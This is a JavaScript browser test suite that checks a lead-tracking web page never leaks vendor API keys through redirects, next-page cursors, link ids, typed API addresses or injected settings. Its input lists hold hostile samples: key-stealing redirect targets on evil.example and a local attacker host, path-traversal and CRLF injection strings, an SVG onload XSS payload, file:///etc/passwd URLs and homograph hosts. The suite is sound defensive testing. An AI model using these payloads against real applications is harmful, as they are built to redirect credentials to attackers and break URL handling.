// Attacks on a key by redirects, next pages, ids in links, addresses and settings, in more than 200 forms: the attacker
// hears nothing at all, and the page asks nobody but its own host and the vendors. The page's policy, which would stop
// most of them as well, is switched off here: the program itself has to.
import assert from "node:assert/strict";
import { after, afterEach, before, test } from "node:test";
import { startAttacker } from "./support/attacker.js";
import { launch } from "./support/browser.js";
import { holds } from "./support/canary.js";
import { openForm } from "./support/connect.js";
import { eventually } from "./support/eventually.js";
import { reply, startFront } from "./support/front.js";
import { VENDORS } from "./support/matrix/lead.js";
import { Runner } from "./support/matrix/runner.js";
import { onlyWhere } from "./support/modes.js";
import { NAMES } from "./support/visit.js";

const LISTS = { apten: "/leads/room_empty/events", leadsail: "/interactions/lead/lead_empty", naturalead: "/conversations" };
/** What the form asks for, to test what was typed. */
const CHECKS = { apten: "/leads/connection-test/events", leadsail: "/interactions/lead/connection-test" };
let attacker;
let browser;
let runner;
/** What the page's own host says from now on in place of its settings, and how often it was asked. */
const settings = { said: null, asked: 0 };
let stopFront;
/** How many forms of each attack were tried. */
const forms = { redirects: 0, pages: 0, ids: 0, addresses: 0, settings: 0 };

before(async () => {
  attacker = await startAttacker();
  // The names that the attacks use lead to the attacker. Not all names: a browser asks some by itself.
  const names = ["*.example", "*.example.", `localhost:${attacker.port}`].map((name) => `MAP ${name} 127.0.0.1:${attacker.port}`);
  browser = await launch("Chromium", { args: [`--host-resolver-rules=${names.join(",")}`] });
  const isOfSettings = ({ pathname }) => /\/(leadwake|dev-connections)\.json$/.test(pathname);
  const front = (pages) => startFront({ after: (stop) => (stopFront = stop) }, pages.base, (url, response) => settings.said && isOfSettings(url) && (settings.asked += 1) && reply(response, 200, settings.said));
  runner = await Runner.start(browser, { bypassCSP: true, front });
  runner.asked = [];
  runner.context.on("request", (request) => runner.asked.push(new URL(request.url())));
  LISTS.attendee = `/bots/${runner.lead.parts.attendee.split(":")[1]}/chat_messages`;
});

after(async () => {
  console.log(`forms of attack: ${JSON.stringify(forms)}`);
  await runner?.stop();
  await Promise.all([browser?.close(), attacker?.stop(), stopFront?.()]);
});

afterEach(async () => {
  assert.deepEqual(attacker.heard, [], "the attacker was asked");
  const own = [runner.pages.base, runner.simulator.ready.base].map((base) => new URL(base).origin);
  assert.deepEqual(runner.asked.filter((url) => !own.includes(url.origin)).map(String), [], "somebody else was asked");
  for (const vendor of VENDORS) {
    const { key } = runner.simulator.ready.vendors[vendor];
    assert.ok(!runner.asked.some((url) => holds(url.href, key)), "a key is in an address");
  }
  runner.asked.length = 0;
});

/** Where an attacker would like to be asked. */
const targets = () => [
  `${attacker.origin}/steal`,
  `http://localhost:${attacker.port}/steal`,
  `//127.0.0.1:${attacker.port}/steal`,
  `http://127.0.0.1:${new URL(runner.simulator.ready.base).port}@evil.example/steal`,
  "https://evil.example/steal",
];

/** What the vendors were asked since the last time, with its key. */
async function asked() {
  const all = await runner.control("GET", "requests");
  await runner.control("DELETE", "requests");
  return all.filter((one) => one.method === "GET");
}

/** Every question is one of those that a viewer has, to the vendor whose key it carries. */
function assertOrdinary(requests, { lists = LISTS } = {}) {
  for (const { vendor, path, key, key_in_url } of requests) {
    assert.equal(key_in_url, false, "a key is in an address");
    assert.ok(vendor !== null || key === "missing", `a key went to ${path}`);
    if (vendor !== null) assert.ok(path === lists[vendor] || path === CHECKS[vendor] || path.startsWith("/calls/"), `${vendor} was asked for ${path}`);
  }
}

for (const status of [301, 302, 303, 307, 308]) {
  for (const [place, page, paths, below] of [
    ["first page", "first", LISTS, undefined],
    ["later page", "later", { apten: "/events", naturalead: "/conversations", attendee: "/chat_messages" }, undefined],
    ["call", undefined, { apten: "/calls/" }, "apten"],
    ["preflight", undefined, LISTS, undefined],
  ]) {
    test(`a redirect (${status}) of the ${place} takes no key along`, async () => {
      for (const to of targets()) {
        const method = place === "preflight" ? "OPTIONS" : "GET";
        const rules = Object.keys(paths).map((vendor) => ({ vendor, path: paths[vendor] ?? LISTS[vendor], page, method, fault: { kind: "redirect", to, status } }));
        await runner.control("POST", "faults", rules);
        await runner.go(below ? runner.lead.below[below] : "");
        await runner.until({ vendor: null, isCall: Boolean(below) });
        const struck = (await runner.control("GET", "faults")).map((rule) => rule.struck);
        assert.ok(struck.every((count) => count > 0), `some redirect was not met: ${struck}`);
        assertOrdinary(await asked());
        await runner.leave();
        forms.redirects += rules.length;
      }
    });
  }
}

const NEXT = (origin) => {
  const { port } = new URL(origin);
  const own = new URL(runner.simulator.ready.base).host;
  return [
    `${origin}/x?cursor=a`, `http://localhost:${port}/x?cursor=a`, `//127.0.0.1:${port}/x?cursor=a`, `///127.0.0.1:${port}/?cursor=a`,
    `http://${own}@127.0.0.1:${port}/?cursor=a`, `http://${own}:x@evil.example/?cursor=a`, `http://user:pass@${own}/?cursor=a`,
    `http://${own}.evil.example/?cursor=a`, `http://${own}\\@evil.example/?cursor=a`, `http:\\\\evil.example\\?cursor=a`, `https:/\\evil.example/?cursor=a`,
    "https://xn--pple-43d.example/?cursor=a", "https://аpple.example/?cursor=a", "https://evil.example./?cursor=a", "HTTPS://EVIL.EXAMPLE/?cursor=a",
    "https://evil.example:443/?cursor=a", "http://2130706433/?cursor=a", "http://0x7f.1/?cursor=a", "http://[::1]/?cursor=a", "ftp://evil.example/?cursor=a",
    "javascript:alert(1)//?cursor=a", "data:text/html,x?cursor=a", "file:///etc/passwd?cursor=a", "https://evil.example/?cursor=https://evil.example/",
    "?cursor=@evil.example/", "?cursor=../../../secret", "?cursor=..%2F..%2Fsecret", "?cursor=%2e%2e%2f", "?cursor=a%23b", "?cursor=a#@evil.example/",
    "?cursor=a%26x-api-key%3Db", "?cursor=a&base=https://evil.example", "?cursor=a%0d%0aHost:%20evil.example", "?cursor=%00", "?cursor=%FF", "?cursor=",
    "cursor=a", "a", "..", ".", "/", "//", "../..", "..\\..", "@evil.example", ":80@evil.example", "#", "?", "&", "=", "%", "%2", "%zz", "a/../../b",
    "a?b#c", "a\\b", "\t\n", " ", "‮moc.live", "a".repeat(9 * 1024), `https://evil.example/?cursor=${"a".repeat(9 * 1024)}`, "x".repeat(1_000_000),
  ];
};

test("a next page is asked of the vendor that named it, whatever it names", async () => {
  for (const value of NEXT(attacker.origin)) {
    // Apten's very first answer is small and its next page is not asked for: it is asked anew for larger ones.
    const rules = [["apten", 1], ["attendee", 0]].map(([vendor, skip]) => ({ vendor, path: LISTS[vendor], skip, times: 1, fault: { kind: "next", value } }));
    await runner.control("POST", "faults", rules);
    await runner.go();
    const { look } = await runner.until({ vendor: null });
    const requests = await asked();
    assertOrdinary(requests);
    const sent = requests.flatMap(({ query }) => query).filter(([name]) => !["since", "limit", "nextToken", "cursor", "skip"].includes(name));
    assert.deepEqual(sent, [], `${value} made parameters of its own`);
    const longest = Math.max(...requests.flatMap(({ query }) => query.map(([, one]) => one.length)));
    assert.ok(longest <= 8 * 1024, `a cursor of ${longest} letters was sent`);
    assert.ok(look.rows.length > 20, "the page is gone");
    await runner.leave();
    forms.pages += rules.length;
  }
});

const IDS = [
  "..", ".", "../..", "..%2f..", "%2e%2e", "%2E%2E%2Fadmin", "a/../../secret", "a%2f..%2fb", "a\\..\\b", "/etc", "//evil.example", "@evil.example", ":80@evil.example",
  "a?x=1", "a%3Fx=1", "a#b", "a%23b", "a&b", "a;b", "a b", " ", "", "%00", "a%00b", "a%0d%0aHost:evil.example", "%FF%FE", "‮gnp", "http://evil.example", "https:evil.example",
  "x".repeat(257), "x".repeat(100_000), "room_empty/events?since=2000", "room_empty%2Fevents", "lookup", "{}", "[1]", "'\"><svg onload=alert(1)>", "${key}", "%2525", "..;/admin",
];
test("an id in a link stays one part of a path, or is refused", async () => {
  for (const vendor of VENDORS) {
    for (const id of IDS) {
      // A fragment is read in one way for all vendors; how it is written is tried of one.
      for (const spell of vendor === "apten" ? [(text) => text, encodeURIComponent] : [encodeURIComponent]) {
        await runner.page.evaluate((path) => (location.hash = path), `#/lead/${spell(`${vendor}:${id}`)}?dev=1`);
        await eventually(async () => {
          const text = await runner.page.getByRole("main").innerText();
          assert.match(text, /leads nowhere|complete|since|Tried|has no|has nothing|No entries|not accept|refused|cannot open|read the answer|accepted/, text.slice(0, 300));
          assert.equal(await runner.page.locator(".feeds button").count(), 0);
        });
        for (const { path, key, vendor: whom, query } of await asked()) {
          assert.ok(whom === vendor || key === "missing", `${id}: ${whom} was asked in place of ${vendor}`);
          assert.match(path, /^\/(leads\/[^/?#]+\/events|interactions\/lead\/[^/?#]+|conversations|bots\/[^/?#]+\/chat_messages|)$/, id);
          assert.ok(query.every(([name]) => ["since", "limit", "skip"].includes(name)), `${id} made a parameter`);
          assert.ok(!/\/\.{1,2}(\/|$)/.test(path), `${id} climbs`);
        }
        await runner.page.evaluate(() => (location.hash = "#/"));
        forms.ids += 1;
      }
    }
  }
});

const ADDRESSES = ({ port }, own) => [
  "https://evil.example/apten/v1", `http://127.0.0.1:${port}/apten/v1`, `http://localhost:${port}`, `http://${own}@evil.example/apten/v1`, `http://user@${own}/apten/v1`,
  `https://${own}@evil.example/`, `http://${own}.evil.example/`, "http://evil.example", "HTTP://EVIL.EXAMPLE/", "ftp://evil.example/", "javascript:alert(1)", "data:text/plain,x",
  "//evil.example/apten/v1", "/\\evil.example", `http:\\\\127.0.0.1:${port}\\apten`, "https://evil.example.", "https://xn--pple-43d.example/", "https://аpple.example/",
  "https://evil.example/?next=", "https://evil.example/#x", "https:///evil.example", "https:evil.example", "evil.example/apten/v1", "https://relay.example/https://evil.example/v1",
  "https://relay.example/https://me:secret@evil.example/v1", "https://evil.example/..", "https://evil.example/%2e%2e/x", "http://2130706433/", `http://0x7f000001:${port}/`,
  `http://[::ffff:127.0.0.1]:${port}/`, "https://evil.example\t/x", " https://evil.example ", "wss://evil.example/", "relay/apten", "../relay/apten", "//", "https://", "https://evil.example:99999/",
];
test("an address that is typed takes no key along that was typed for another", async () => {
  const { page } = runner;
  const { host } = new URL(runner.simulator.ready.base);
  const { base_url, key } = runner.simulator.ready.vendors.apten;
  const form = page.getByRole("region", { name: "Apten", exact: true });
  const save = form.getByRole("button", { name: "Save" });
  for (const typed of ADDRESSES(attacker, host)) {
    await page.evaluate(() => (location.hash = "#/connections"));
    await openForm(page, "apten");
    await form.getByLabel("Address of the API").fill(base_url);
    await form.locator("input[type=password]").fill(key);
    await save.click();
    await form.getByText(`key ending …${key.slice(-4)}`).waitFor();
    await form.getByLabel("Address of the API").fill(typed);
    await save.click();
    await form.getByRole("alert").first().waitFor();
    await runner.go();
    await runner.until({ vendor: null });
    assertOrdinary(await asked());
    await runner.leave();
    forms.addresses += 1;
  }
  await page.evaluate(() => (location.hash = "#/connections"));
  await openForm(page, "apten");
  await form.getByLabel("Address of the API").fill(base_url);
  await form.locator("input[type=password]").fill(key);
  await save.click();
});

const NAMES_OF_SETTINGS = ["base", "base_url", "baseUrl", "url", "server", "relay", "proxy", "config", "leadwake", "leadwake.json", "connections", "hosts", "vendors", "apten", "apten.base_url", "next", "cursor", "redirect", "dev"];
test("no link and no file that is read later moves a key", onlyWhere("something is kept"), async () => {
  const { page } = runner;
  const { key, base_url } = runner.simulator.ready.vendors.leadsail;
  const form = page.getByRole("region", { name: NAMES.leadsail, exact: true });
  await page.evaluate(() => (location.hash = "#/connections"));
  await openForm(page, "leadsail");
  await form.getByLabel("Address of the API").fill(base_url);
  await form.locator("input[type=password]").fill(key);
  await form.getByRole("radio", { name: "This tab" }).check();
  await save(form);
  settings.said = { vendors: Object.fromEntries(VENDORS.map((vendor) => [vendor, { base_url: `${attacker.origin}/api/v1`, adds_key: true, key: "x" }])), hosts: [attacker.origin], frame_origins: ["*"] };
  const value = encodeURIComponent(`${attacker.origin}/steal`);
  for (const name of NAMES_OF_SETTINGS) {
    for (const query of [`?${name}=${value}#/lead/${runner.lead.parts.leadsail}`, `#/lead/${runner.lead.parts.leadsail}?${name}=${value}`]) {
      await page.goto(`${runner.pages.base}${query}`);
      await page.reload();
      await page.locator(".feeds .feed").first().waitFor();
      await eventually(async () => assert.match(await page.locator(".feeds").innerText(), /complete/, "it does not read the vendor any more"));
      assertOrdinary(await asked());
      forms.settings += 1;
    }
  }
  assert.ok(settings.asked >= forms.settings, `the settings were read ${settings.asked} times`);
});

const save = async (form) => {
  await form.getByRole("button", { name: "Save" }).click();
  await form.getByText("key ending …").waitFor();
};

test("an attacker that is asked is heard of", async () => {
  await runner.page.evaluate((origin) => fetch(`${origin}/x`, { headers: { "x-api-key": "canary" } }), attacker.origin);
  await runner.page.evaluate(() => fetch("https://somewhere.example/").catch(() => {}));
  assert.ok(attacker.heard.some((one) => /GET \/x\n.*canary/s.test(one)), attacker.heard.join("\n"));
  assert.ok(attacker.heard.includes("a connection"), "names do not lead to it");
  attacker.heard.length = 0;
  runner.asked.length = 0;
});

/** At least so many forms of each are tried. */
const FLOORS = { redirects: 300, pages: 120, ids: 200, addresses: 38, settings: 38 };
for (const [what, floor] of Object.entries(FLOORS)) {
  test(`so many forms of attack were tried: ${what}`, what === "settings" ? onlyWhere("something is kept") : {}, () => {
    assert.ok(forms[what] >= floor, `only ${forms[what]}`);
  });
}
